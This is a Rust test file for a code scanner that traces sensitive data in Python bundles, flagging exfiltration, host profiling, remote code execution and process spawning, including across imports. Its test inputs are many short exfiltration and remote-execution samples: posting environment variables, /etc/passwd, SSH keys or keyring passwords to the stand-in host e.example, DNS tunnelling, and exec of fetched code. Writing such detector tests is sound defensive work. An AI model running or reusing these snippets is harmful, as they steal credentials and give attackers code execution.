//! Sensitive data is followed from where it is read to where it leaves, also through the files of a bundle.

use frameos_domain::scan::{Finding, Verdict};

use crate::support::{each_has, rules, scan_files};

#[test]
fn private_data_that_leaves_is_found() {
    each_has(
        "data-exfiltration",
        "main.py",
        &[
            "import os, requests\nrequests.post('https://e.example', data=dict(os.environ))",
            "import os, requests, json, base64\nd = json.dumps(dict(os.environ))\ne = base64.b64encode(d.encode())\nrequests.post('https://e.example', data={'d': e})",
            "import os\nfrom urllib.request import urlopen, Request\nurlopen(Request('https://e.example', str(os.environ).encode()))",
            "import os, urllib.request as u\nu.urlopen(f'https://e.example/?{os.environ}')",
            "import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post('https://e.example', json=d)",
            "import os, requests\nd = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://e.example', json=d)",
            "import os, requests\nd = [os.environ[k] for k in os.environ]\nrequests.get('https://e.example', params=d)",
            "import os, requests\nd = []\nfor k in os.environ:\n    d.append(k)\nrequests.get('https://e.example', params=d)",
            "import os, socket\ns = socket.socket()\ns.connect(('e.example', 1))\ns.sendall(repr(os.environ).encode())",
            "import os, socket\nwith socket.create_connection(('e.example', 1)) as s:\n    s.send(str(dict(os.environ)).encode())",
            "import os, http.client\nc = http.client.HTTPSConnection('e.example')\nc.request('POST', '/', body=str({**os.environ}))",
            "import os, requests\ndef collect():\n    return os.environ.copy()\ndef send(data):\n    requests.post('https://e.example', data=data)\nsend(collect())",
            "import os, requests\nclass A:\n    def __init__(self):\n        self.d = dict(os.environ)\n    def go(self):\n        requests.post('https://e.example', data=self.d)\nA().go()",
            "import os, requests\ns = requests.Session()\ns.post('https://e.example', data=os.environ)",
            "import os, aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://e.example', json=dict(os.environ))",
            "import os, smtplib\nm = smtplib.SMTP('e.example')\nm.sendmail('a', 'b', str(os.environ))",
            "import os, socket\nsocket.gethostbyname(str(os.environ).encode().hex() + '.e.example')",
            "import requests\nrequests.post('https://e.example', data=open('/etc/passwd').read())",
            "import requests, pathlib\nrequests.post('https://e.example', data=pathlib.Path('a').read_text())",
            "import requests, pathlib\nk = pathlib.Path.home() / '.ssh' / 'id_rsa'\nrequests.post('https://e.example', data=k.read_bytes())",
            "import requests\nwith open('a', 'rb') as f:\n    requests.post('https://e.example', files={'f': f})",
            "import keyring, httpx\nhttpx.post('https://e.example', json={'p': keyring.get_password('a', 'b')})",
            "from os import environ as e\nimport requests as r\nr.post('https://e.example', json=dict(e))",
        ],
    );
    each_has(
        "host-profiling",
        "main.py",
        &[
            "import socket, requests\nrequests.get('https://e.example/' + socket.gethostname())",
            "import getpass, platform, requests\nd = {'u': getpass.getuser(), 'h': platform.node()}\nrequests.post('https://e.example', json=d)",
        ],
    );
    each_has(
        "remote-code",
        "main.py",
        &[
            "import requests\nexec(requests.get('https://e.example').text)",
            "import urllib.request as u\ncode = u.urlopen('https://e.example').read().decode()\neval(code)",
            "import requests, pickle\npickle.loads(requests.get('https://e.example').content)",
            "import requests, subprocess\nsubprocess.run(requests.get('https://e.example').json()['cmd'], shell=True)",
            "import socket, os\ns = socket.socket()\nwhile True:\n    c = s.recv(1024).decode()\n    os.system(c)",
            "import requests\ndef fetch():\n    return requests.get('https://e.example').text\ndef run(c):\n    exec(c)\nrun(fetch())",
            "import requests, importlib\nimportlib.import_module(requests.get('https://e.example').text)",
        ],
    );
}

#[test]
fn single_reads_and_own_data_are_no_flows() {
    for honest in [
        "import os, requests\nrequests.get('https://a.example', headers={'Authorization': os.environ['API_KEY']})",
        "import os, requests\nkey = os.environ.get('API_KEY', '')\nrequests.get('https://a.example', params={'k': key})",
        "import os, requests\nrequests.get(os.getenv('URL'))",
        "import os, requests\nprint(dict(os.environ))\nrequests.get('https://a.example')",
        "import os, requests\nif 'DEBUG' in os.environ:\n    requests.get('https://a.example')",
        "import os, requests\nn = len(os.environ)\nrequests.get('https://a.example', params={'n': n})",
        "import requests\ndata = requests.get('https://a.example').json()\nprint(data['x'])",
        "import requests, json\nrequests.post('https://a.example', data=json.dumps(inputs))",
    ] {
        let found = rules("main.py", honest);
        assert!(
            !found
                .iter()
                .any(|rule| matches!(rule.as_str(), "data-exfiltration" | "remote-code" | "host-profiling")),
            "{honest}\n{found:?}"
        );
    }
}

fn finding<'r>(report: &'r frameos_domain::scan::ScanReport, rule: &str, file: &str) -> &'r Finding {
    let found = report.findings.iter().find(|finding| finding.rule == rule && finding.file == file);
    found.unwrap_or_else(|| panic!("no {rule} in {file}: {:#?}", report.findings))
}

#[test]
fn the_way_of_data_is_shown_step_by_step() {
    let report = scan_files(&[(
        "main.py",
        "import os, requests, json\nd = dict(os.environ)\ne = json.dumps(d)\nrequests.post('https://e.example', data=e)\n",
    )]);
    let found = finding(&report, "data-exfiltration", "main.py");
    let lines: Vec<_> = found.trace.iter().map(|step| step.line).collect();
    assert_eq!(lines.first(), Some(&2), "{:?}", found.trace);
    assert_eq!((lines.last(), found.line), (Some(&4), 4), "{:?}", found.trace);
    assert!(found.trace[0].message.contains("os.environ") && lines.is_sorted(), "{:?}", found.trace);
    assert!(report.facts.hosts.contains("e.example") && report.facts.abilities.contains("network"));
}

#[test]
fn names_and_data_are_followed_across_files() {
    let report = scan_files(&[
        (
            "main.py",
            "from helpers.net import send\nfrom helpers import collect\nsend('x', collect.all_of_it())\n",
        ),
        ("helpers/__init__.py", ""),
        (
            "helpers/net.py",
            "import requests\ndef send(name, data):\n    requests.post('https://e.example', data={name: data})\n",
        ),
        (
            "helpers/collect.py",
            "import os\ndef all_of_it():\n    return {k: v for k, v in os.environ.items()}\n",
        ),
    ]);
    let found = finding(&report, "data-exfiltration", "main.py");
    let files: Vec<_> = found.trace.iter().map(|step| step.file.as_str()).collect();
    assert_eq!(files.first(), Some(&"helpers/collect.py"), "{:#?}", found.trace);
    assert!(files.contains(&"main.py") && files.contains(&"helpers/net.py"), "{:#?}", found.trace);

    for (helper, main) in [
        ("import os as tool\n", "from helper import tool\ntool.system('ls')"),
        ("import os as tool\n", "import helper\nhelper.tool.system('ls')"),
        ("import os as tool\n", "import helper as h\nh.tool.popen('ls')"),
        ("import os as tool\n", "from helper import *\ntool.system('ls')"),
        ("import os\ndef get():\n    return os\n", "from helper import get\nget().system('ls')"),
        ("import os\nclass T:\n    o = os\n", "from helper import T\nT.o.system('ls')"),
        ("NAME = 'sys' + 'tem'\n", "import os\nfrom helper import NAME\ngetattr(os, NAME)('ls')"),
        ("NAMES = {'a': 'system'}\n", "import os\nimport helper\ngetattr(os, helper.NAMES['a'])('ls')"),
    ] {
        let report = scan_files(&[("helper.py", helper), ("main.py", main)]);
        assert_eq!(report.verdict, Verdict::Reject, "{helper}{main}");
        finding(&report, "process-spawn", "main.py");
    }
}

#[test]
fn relative_imports_and_circles_are_followed() {
    let report = scan_files(&[
        ("pkg/__init__.py", ""),
        ("pkg/a.py", "from .sub import b\nb.tool.system('ls')\n"),
        ("pkg/sub/__init__.py", ""),
        ("pkg/sub/b.py", "from .. import c\ntool = c.tool\n"),
        ("pkg/c.py", "import os as tool\nfrom . import a\n"),
    ]);
    finding(&report, "process-spawn", "pkg/a.py");
    let report = scan_files(&[
        ("one.py", "import two\ntool = __import__('os')\n"),
        ("two.py", "import one\none.tool.system('ls')\n"),
    ]);
    finding(&report, "process-spawn", "two.py");
}

#[test]
fn facts_are_noted() {
    let report = scan_files(&[
        (
            "main.py",
            "import os, json, numpy.linalg\nfrom helper import x\nfrom . import y\nos.environ['A']\nimport hashlib\nhashlib.md5(b'')",
        ),
        ("helper.py", "import requests\nx = requests.get('https://API.example.org:8443/a')"),
    ]);
    let modules: Vec<_> = report.facts.modules.iter().map(String::as_str).collect();
    assert_eq!(modules, ["hashlib", "json", "numpy", "os", "requests"]);
    assert!(report.facts.hosts.contains("api.example.org"));
    for ability in ["network", "environment", "hashing"] {
        assert!(report.facts.abilities.contains(ability), "{ability}: {:?}", report.facts.abilities);
    }
}
